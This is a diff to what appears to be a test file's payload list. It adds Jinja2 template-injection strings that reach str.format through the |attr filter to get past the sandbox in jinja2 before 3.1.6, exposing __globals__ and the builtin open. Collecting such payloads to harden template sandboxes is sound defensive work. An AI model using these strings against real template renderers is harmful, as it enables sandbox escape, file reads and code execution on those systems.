@@ -77,6 +77,10 @@ PAYLOADS: list[tuple[str, str]] = [
     ("attr/filter tricks", "{{ messages|unique(attribute='__class__')|list }}"),
     ("attr/filter tricks", "{{ (messages|first).__class__ }}"),
     ("attr/filter tricks", "{{ ''.__getattribute__('__class__') }}"),
+    # str.format reached through |attr, around the sandbox's own check of .format (jinja2 before 3.1.6)
+    ("attr/filter tricks", "{{ '{0.__globals__}'|attr('format')(raise_exception) }}"),
+    ("attr/filter tricks", "{{ '{0.__globals__[__builtins__][open]}'|attr('format')(strftime_now) }}"),
+    ("attr/filter tricks", "{{ '{f.__globals__}'|attr('format_map')({'f': raise_exception}) }}"),
     ("attr/filter tricks", "{{ messages.__getitem__(0) }}"),
     # format-string tricks
     ("format strings", "{{ '{0.__class__.__mro__}'.format('') }}"),
